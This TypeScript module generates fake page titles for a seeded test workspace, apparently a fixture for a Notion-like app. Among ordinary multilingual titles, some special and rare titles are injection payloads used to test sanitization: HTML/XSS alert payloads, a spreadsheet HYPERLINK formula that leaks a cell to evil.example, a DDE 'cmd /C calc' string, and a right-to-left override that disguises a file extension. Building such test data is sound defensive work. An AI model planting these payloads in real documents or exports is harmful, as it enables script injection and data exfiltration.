import { createCompanies } from '../made-up/companies.ts'
import { createPeople } from '../made-up/people.ts'
import { between, createRandom, pick } from '../random.ts'
import type { Ids } from './ids.ts'
import { mentionDate, mentionPage, mentionUser, plainOf, runs, text, type RichText } from './rich-text.ts'
import { placeOfSource } from './source-places.ts'
import { specialAt, TOP_TITLES, type SpecialPage } from './special-pages.ts'
import type { Users } from './users.ts'

const STREAM = 61

const TOPICS =
  'Roadmap,Onboarding,Weekly notes,Incident review,Budget,Launch plan,Research,Retrospective,Interview guide,Brand voice,Reading list,Travel policy,Release checklist,Design critique,Customer stories,Hiring plan,Security review,Besprechung,Réunion d’équipe,Планирование,議事録,خطة العمل,회의록,पढ़ने की सूची,Ideias,Ñandú & Söhne'.split(
    ',',
  )
const QUALIFIERS = ['Q1', 'Q2', 'Q3', 'Q4', 'draft', '2024', '2025', '2026', 'v2', '(old)', '✅', '🚧', '']
const DISHES =
  'Tuscan kale,Ratatouille,Pão de queijo,Борщ,味噌汁,Crème brûlée,Pierogi,김치찌개,Jollof rice,Shakshuka,Käsespätzle,Empanadas'.split(
    ',',
  )
const VERBS = ['Call', 'Write to', 'Pay', 'Visit', 'Review', 'Ship to', 'Thank', 'Remind']

/** The title of a made-up page: `source` is the data source of a row, -1 for other pages. */
export type Titles = (page: number, source: number) => RichText[]

export function createTitles(seed: number, ids: Ids, users: Users): Titles {
  const people = createPeople(seed)
  const companies = createCompanies(seed, 4_000)

  const ordinary = (page: number, source: number): string => {
    const random = createRandom(seed, STREAM, page)
    const template = source < 0 ? -1 : placeOfSource(source).template
    if (template === 0) {
      const { first, last } = people.personAt(Math.floor(random() * 9_000))
      return `${pick(random, VERBS)} ${first} ${last}`
    }
    if (template === 1) return `${pick(random, DISHES)} ${between(random, 1, 400)}`
    if (template === 2) return companies.companyAt(Math.floor(random() * 4_000)).name
    if (template === 3) return `HC-${between(random, 1000, 9999)}`
    return `${pick(random, TOPICS)} ${pick(random, QUALIFIERS)}`.trim()
  }

  return (page, source) => {
    const top = TOP_TITLES[page]
    if (top !== undefined) return runs(top)
    const special = specialAt(page)
    const fixed = special === undefined ? undefined : SPECIAL_TITLES[special]
    if (fixed !== undefined) return runs(fixed)
    if (special === 'threeRuns') {
      return [
        text('Notes for ', { bold: true }),
        mentionUser(users.owner.id, users.owner.name ?? ''),
        text(' on the harbour', { italic: true, color: 'blue' }),
      ]
    }
    if (special === 'mentionOnly') return [mentionPage(ids.idOf('page', 1), 'Product')]
    const oddity = createRandom(seed, STREAM + 1, page)()
    if (oddity < 0.01) return []
    const plain = ordinary(page, source)
    if (oddity < 0.02)
      return [text(`${plain} `), mentionDate('2026-09-30'), text(' (moved)', { strikethrough: true })]
    if (oddity < 0.025) return runs(`<img src=x onerror=alert(${page})> ${plain}`)
    if (oddity < 0.03) return runs(`=HYPERLINK("https://evil.example/${page}","${plain}")`)
    if (oddity < 0.035) return runs(`${plain} ${'and so on and on '.repeat(100)}`.slice(0, 1_990))
    if (oddity < 0.04) return runs(`  ${plain}\nsecond line\t🧭 `)
    return runs(plain)
  }
}

/** The title as a text, in small letters: what search compares. */
export function searchText(title: readonly RichText[]): string {
  return plainOf(title).toLowerCase()
}

const SPECIAL_TITLES: Partial<Record<SpecialPage, string>> = {
  emptyTitle: '',
  inBlock: 'Kept inside a toggle',
  ofAgent: 'Written by an agent',
  unknownParent: 'In a team space of its own kind',
  longPage: 'Ship’s log, unabridged',
  deepBlocks: 'Twelve toggles deep',
  everyBlock: 'A bit of everything',
  markup: '<img src=x onerror=alert(document.domain)><script>alert(1)</script>',
  formula: '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  rightToLeft: '\u202Egpj.tset\u202C הפלגה לחיפה 🚢',
  longTitle: 'A very long title that goes on. '.repeat(62).trim(),
  trashed: 'Thrown away',
  locked: 'Locked: do not edit',
  level2: 'Level 2',
  level3: 'Level 3',
  level4: 'Level 4',
  level5: 'Level 5',
  level6: 'Level 6',
  level7: 'Level 7',
  level8: 'Level 8',
  everyType: 'Task with everything filled in',
  manyRelations: 'Task that depends on sixty others',
  emptyRow: '',
  archivedRow: 'Archived task',
  trashedRow: 'Trashed task',
  contentRow: 'Soupe à l’oignon',
  formulaRow: "@SUM(1+1)*cmd|' /C calc'!A0",
}
